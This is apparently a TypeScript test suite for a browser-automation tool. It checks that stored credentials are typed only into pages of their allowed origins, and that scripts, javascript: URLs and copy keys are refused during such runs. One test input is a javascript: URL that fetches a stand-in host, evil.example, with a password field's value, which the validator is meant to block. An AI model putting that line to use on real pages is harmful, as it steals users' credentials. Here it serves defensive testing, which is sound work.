import { describe, expect, it } from 'vitest';
import { originOfSpec, splitOrigins, StoreCredentialRequest } from '../contract/credentials.ts';
import {
  credentialsIn,
  keptNames,
  originOfUrl,
  placementRefusal,
  stepRefusal,
  type CredentialOrigins,
} from '../server/credentials/credentialOrigins.ts';

// The decisions behind allowed_origins, without a browser: what counts as an origin, where a
// credential may be typed, and what a run that types a kept credential may not do.

describe('origins as a credential states them', () => {
  it.each([
    ['https://Login.Example.com', 'https://login.example.com'],
    ['https://login.example.com/', 'https://login.example.com'],
    [' https://a.example ', 'https://a.example'],
    ['https://a.example:443', 'https://a.example'],
    ['http://a.example:80', 'http://a.example'],
    ['http://127.0.0.1:8080', 'http://127.0.0.1:8080'],
    ['http://[::1]:3000', 'http://[::1]:3000'],
    ['https://bücher.example', 'https://xn--bcher-kva.example'],
  ])('%s is %s', (text, origin) => expect(originOfSpec(text)).toBe(origin));

  it.each([
    'https://a.example/login',
    'https://a.example/?x=1',
    'https://a.example#top',
    'https://a.example?',
    'https://user:pw@a.example',
    'https://*.a.example',
    'a.example',
    '//a.example',
    'ftp://a.example',
    'javascript://a.example',
    'file:///etc',
    'https:\\\\a.example',
    'https://a\tb.example',
    'https://a b.example',
    'https://',
    '',
  ])('%j is refused', (text) => expect(originOfSpec(text)).toBeUndefined());

  it('a form field splits on commas, spaces and new lines; a JSON array string is read as one', () => {
    expect(splitOrigins('https://a.example,https://b.example\nhttps://c.example  https://d.example\r\n')).toEqual([
      'https://a.example',
      'https://b.example',
      'https://c.example',
      'https://d.example',
    ]);
    expect(splitOrigins('["https://a.example","https://b.example"]')).toEqual([
      'https://a.example',
      'https://b.example',
    ]);
    expect(splitOrigins('')).toEqual([]);
    expect(splitOrigins(['https://a.example'])).toEqual(['https://a.example']);
  });

  it('the request normalises and de-duplicates, and names each bad one by its index', () => {
    const ok = StoreCredentialRequest.parse({
      name: 'n',
      value: 'v',
      allowed_origins: ['https://A.example/', 'https://a.example', 'http://b.example:81'],
    });
    expect(ok.allowed_origins).toEqual(['https://a.example', 'http://b.example:81']);
    expect(StoreCredentialRequest.parse({ name: 'n', value: 'v' }).allowed_origins).toBeUndefined();
    expect(StoreCredentialRequest.parse({ name: 'n', value: 'v', allowed_origins: '' }).allowed_origins).toEqual([]);
    const bad = StoreCredentialRequest.safeParse({
      name: 'n',
      value: 'v',
      allowed_origins: ['https://a.example', 'https://a.example/login'],
    });
    expect(bad.success).toBe(false);
    expect(bad.error!.issues.map((i) => [i.path.join('.'), i.message])).toEqual([
      [
        'allowed_origins.1',
        '"https://a.example/login" is not an origin: give the scheme and host (and a port if not the default) only, like https://login.example.com, with no path, query or wildcard',
      ],
    ]);
    const many = StoreCredentialRequest.safeParse({
      name: 'n',
      value: 'v',
      allowed_origins: Array.from({ length: 21 }, (_, i) => `https://a${i}.example`),
    });
    expect(many.error!.issues.map((i) => i.message)).toEqual(['allowed_origins holds at most 20 origins (21 given)']);
    expect(
      StoreCredentialRequest.safeParse({ name: 'n', value: 'v', allowed_origins: 5 }).error!.issues[0]!.message,
    ).toMatch(/must be a list of origins/);
  });
});

describe('the origin of a page', () => {
  it("is the browser's: opaque documents have none", () => {
    expect(originOfUrl('https://bank.example/login?x#y')).toBe('https://bank.example');
    expect(originOfUrl('blob:https://bank.example/7c1d')).toBe('https://bank.example');
    for (const url of [
      'about:blank',
      'about:srcdoc',
      'data:text/html,<p>',
      'file:///tmp/x.html',
      'chrome-error://chromewebdata/',
      '',
      'not a url',
    ]) {
      expect(originOfUrl(url)).toBe('null');
    }
  });
});

const values = new Map([
  ['bank_pw', 'hunter2'],
  ['any_pw', 'open sesame'],
]);
const origins: CredentialOrigins = new Map([
  ['bank_pw', ['https://bank.example']],
  ['any_pw', []],
]);

describe('where a credential may be typed', () => {
  const at = (frame: string, parents: string[] = [], opener?: string) => ({
    frame,
    parents,
    ...(opener ? { opener } : {}),
  });

  it('a credential with origins: only into a page of one of them', () => {
    expect(placementRefusal(['bank_pw'], origins, at('https://bank.example/login'))).toBeUndefined();
    expect(placementRefusal(['bank_pw'], origins, at('https://evil.example/'))).toBe(
      'the credential "bank_pw" may only be typed into https://bank.example; this page is https://evil.example',
    );
    // Another port, scheme or subdomain is another origin.
    for (const url of [
      'https://bank.example:8443/',
      'http://bank.example/',
      'https://www.bank.example/',
      'https://bank.example.evil.example/',
    ]) {
      expect(placementRefusal(['bank_pw'], origins, at(url))).toMatch(
        /may only be typed into https:\/\/bank\.example; this page is /,
      );
    }
  });

  it('names every allowed origin, and a page without an origin by its URL', () => {
    const two: CredentialOrigins = new Map([['pw', ['https://a.example', 'https://b.example', 'https://c.example']]]);
    expect(placementRefusal(['pw'], two, at('about:blank'))).toBe(
      'the credential "pw" may only be typed into https://a.example, https://b.example or https://c.example; this page is about:blank (no origin of its own)',
    );
    expect(placementRefusal(['pw'], two, at(`data:text/html,${'x'.repeat(200)}`))).toMatch(
      /this page is data:text\/html,x{60,}… \(no origin of its own\)$/,
    );
  });

  it('every frame around the field and the page that opened the window must be allowed too', () => {
    expect(
      placementRefusal(['bank_pw'], origins, at('https://bank.example/', ['https://bank.example/outer'])),
    ).toBeUndefined();
    expect(
      placementRefusal(
        ['bank_pw'],
        origins,
        at('https://bank.example/', ['https://bank.example/', 'https://evil.example/']),
      ),
    ).toBe(
      'the credential "bank_pw" may only be typed into https://bank.example; this field is in a frame of https://bank.example inside https://evil.example, which can navigate it',
    );
    expect(placementRefusal(['bank_pw'], origins, at('https://bank.example/', [], 'https://evil.example/'))).toBe(
      'the credential "bank_pw" may only be typed into https://bank.example; this page of https://bank.example was opened by https://evil.example, which can navigate it',
    );
    expect(
      placementRefusal(['bank_pw'], origins, at('https://bank.example/', [], 'https://bank.example/home')),
    ).toBeUndefined();
  });

  it('a credential without origins goes anywhere; one the runner was told nothing about goes nowhere', () => {
    expect(
      placementRefusal(
        ['any_pw'],
        origins,
        at('https://evil.example/', ['https://evil.example/'], 'https://evil.example/'),
      ),
    ).toBeUndefined();
    expect(placementRefusal(['other'], origins, at('https://bank.example/'))).toMatch(
      /not told where the credential "other" may be typed/,
    );
    expect(placementRefusal(['bank_pw'], undefined, at('https://bank.example/'))).toMatch(
      /not told where the credential "bank_pw" may be typed/,
    );
    // Several in one value: the first that may not go there is named.
    expect(placementRefusal(['any_pw', 'bank_pw'], origins, at('https://evil.example/'))).toMatch(
      /^the credential "bank_pw"/,
    );
  });

  it('the credentials a value types are the placeholders the run has values for', () => {
    expect(credentialsIn('x-{{credentials.bank_pw}}-y{{ credentials.any_pw }}{{credentials.bank_pw}}', values)).toEqual(
      ['bank_pw', 'any_pw'],
    );
    expect(credentialsIn('{{credentials.unknown}} {{name}} plain', values)).toEqual([]);
  });

  it('kept credentials are those with origins, and those without word of them', () => {
    expect(keptNames(values, origins)).toEqual(['bank_pw']);
    expect(keptNames(values, new Map([['any_pw', []]]))).toEqual(['bank_pw']);
    expect(keptNames(values, undefined)).toEqual(['bank_pw', 'any_pw']);
    expect(keptNames(new Map([['any_pw', 'x']]), origins)).toEqual([]);
  });
});

describe('what a run that types a kept credential may not do', () => {
  const kept = ['bank_pw'];

  it("run the flow's own script in a page: waitForExpression, a javascript: URL", () => {
    expect(stepRefusal({ type: 'waitForExpression' }, kept)).toBe(
      'this run types the credential "bank_pw", kept to its allowed origins, so the flow may not run its own script in a page (it could read the field or send it anywhere): wait with waitForElement instead',
    );
    for (const url of [
      'javascript:fetch("//evil.example/?"+pw.value)',
      ' JavaScript:void 0',
      'java\tscript:1',
      'data:text/html,<script>1</script>',
      'about:blank',
      'not a url',
    ]) {
      expect(stepRefusal({ type: 'navigate', url }, kept)).toMatch(/may only navigate to http and https URLs/);
    }
    expect(stepRefusal({ type: 'navigate', url: 'https://evil.example/' }, kept)).toBeUndefined();
  });

  it('press a key that can copy a field out, or click with the middle button', () => {
    for (const key of [
      'Control',
      'Meta',
      'Alt',
      'Insert',
      'Delete',
      'F10',
      'ContextMenu',
      'Copy',
      'Paste',
      'KeyC',
      '\u0003',
    ]) {
      expect(stepRefusal({ type: 'keyDown', key }, kept)).toMatch(
        /so a key step may press a character, Enter, .* not /,
      );
      expect(stepRefusal({ type: 'keyUp', key }, kept)).toMatch(/so a key step may press/);
    }
    for (const key of [
      'Enter',
      'Tab',
      'Escape',
      'Backspace',
      'Shift',
      'ArrowDown',
      'Home',
      'PageDown',
      'a',
      'Z',
      '1',
      ' ',
      'é',
    ]) {
      expect(stepRefusal({ type: 'keyDown', key }, kept)).toBeUndefined();
    }
    expect(stepRefusal({ type: 'click', button: 'auxiliary' }, kept)).toMatch(/may not use the middle button/);
    expect(stepRefusal({ type: 'doubleClick', button: 'auxiliary' }, kept)).toMatch(/may not use the middle button/);
    expect(stepRefusal({ type: 'click', button: 'primary' }, kept)).toBeUndefined();
    expect(stepRefusal({ type: 'click' }, kept)).toBeUndefined();
  });

  it('names every kept credential; a run with none is not restricted at all', () => {
    expect(stepRefusal({ type: 'waitForExpression' }, ['a', 'b'])).toMatch(
      /^this run types the credentials "a" and "b", kept to their allowed origins/,
    );
    for (const step of [
      { type: 'waitForExpression' },
      { type: 'navigate', url: 'javascript:1' },
      { type: 'keyDown', key: 'Control' },
      { type: 'click', button: 'auxiliary' },
    ]) {
      expect(stepRefusal(step, [])).toBeUndefined();
    }
    for (const type of ['change', 'waitForElement', 'scroll', 'hover', 'setViewport', 'close', 'customStep'])
      expect(stepRefusal({ type }, kept)).toBeUndefined();
  });
});
